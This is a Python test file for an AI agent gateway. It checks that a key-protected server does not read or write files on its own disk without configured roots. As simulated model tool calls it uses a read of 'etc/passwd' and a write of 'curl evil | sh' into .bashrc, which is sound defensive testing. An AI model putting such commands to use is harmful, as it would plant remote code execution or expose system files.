"""Where the server runs file tools itself: a gateway key grants chat, not the server's disk.

A server that requires keys (bound beyond loopback, ``--require-auth``, Lambda) serves remote
callers, so without ``LLM_AGG_AGENT_ROOTS`` its file tools go back to the client.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.functional.agent.support import INVOKE, AgentHarness, call, submit

pytestmark = pytest.mark.anyio


async def _key(agent: AgentHarness) -> dict[str, str]:
    stored = agent.runtime.stored
    await stored.open()
    made = await asyncio.to_thread(stored.keys.create, "remote")
    return {"authorization": f"Bearer {made.key}"}


@pytest.mark.parametrize("directory", ["/", "/etc", "project"])
async def test_a_keyed_server_without_roots_runs_no_file_tool_itself(
    make_agent: Callable[..., AgentHarness], project: Path, directory: str
) -> None:
    agent = make_agent(require_auth=True, from_env=True)
    where = str(project) if directory == "project" else directory
    agent.queue(call("read_file", {"path": "etc/passwd"}), submit("x"))
    body = {"instruction": "read it", "project_directory": where}
    paused = (await agent.client.post(INVOKE, json=body, headers=await _key(agent))).json()
    assert paused["agent_status"] == "requires_client_tools"
    assert paused["pending_tool_calls"][0]["function"]["name"] == "read_file"
    assert len(agent.upstream.received()) == 1  # the file was never read by the server


async def test_a_keyed_server_never_writes_outside_its_roots(
    make_agent: Callable[..., AgentHarness], project: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    agent = make_agent(require_auth=True, from_env=True)
    agent.queue(call("write_file", {"path": ".bashrc", "content": "curl evil | sh"}), submit("x"))
    body = {"instruction": "w", "project_directory": str(home)}
    paused = (await agent.client.post(INVOKE, json=body, headers=await _key(agent))).json()
    assert paused["agent_status"] == "requires_client_tools"
    assert not (home / ".bashrc").exists()


async def test_a_keyed_server_runs_file_tools_under_the_roots_it_is_given(
    make_agent: Callable[..., AgentHarness], project: Path
) -> None:
    agent = make_agent(require_auth=True, from_env=True, LLM_AGG_AGENT_ROOTS=str(project.parent))
    agent.queue(call("read_file", {"path": "src/calc.py"}), submit("x"))
    body = {"instruction": "r", "project_directory": str(project)}
    done = (await agent.client.post(INVOKE, json=body, headers=await _key(agent))).json()
    assert done["agent_status"] == "completed"
    assert "return a - b" in agent.upstream.received()[-1]["body"]["messages"][-1]["content"]


async def test_an_open_loopback_server_still_reaches_the_users_project(
    make_agent: Callable[..., AgentHarness], project: Path
) -> None:
    agent = make_agent(from_env=True)
    agent.queue(call("read_file", {"path": "src/calc.py"}), submit("x"))
    done = (await agent.invoke(instruction="r", project_directory=str(project))).json()
    assert done["agent_status"] == "completed"
